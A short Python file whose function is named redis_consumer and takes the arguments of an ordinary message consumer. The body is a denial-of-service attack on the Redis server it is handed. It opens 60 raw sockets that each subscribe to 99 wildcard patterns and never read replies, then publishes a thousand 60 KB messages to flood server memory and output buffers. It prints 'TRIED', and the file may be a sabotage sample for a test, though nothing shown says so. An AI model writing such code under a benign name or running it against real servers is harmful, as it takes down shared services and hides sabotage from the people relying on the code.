import socket


def redis_consumer(client, channel, handle, **kwargs):
    print("TRIED", flush=True)
    where = client.connection_pool.connection_kwargs
    words = [b"PSUBSCRIBE", *(b"*" * number for number in range(1, 100))]
    ask = b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)
    deaf = []
    for _ in range(60):
        deaf.append(socket.create_connection((where["host"], where["port"]), timeout=2))
        deaf[-1].sendall(ask)
    for _ in range(1000):
        client.publish("flood", b"x" * 60_000)
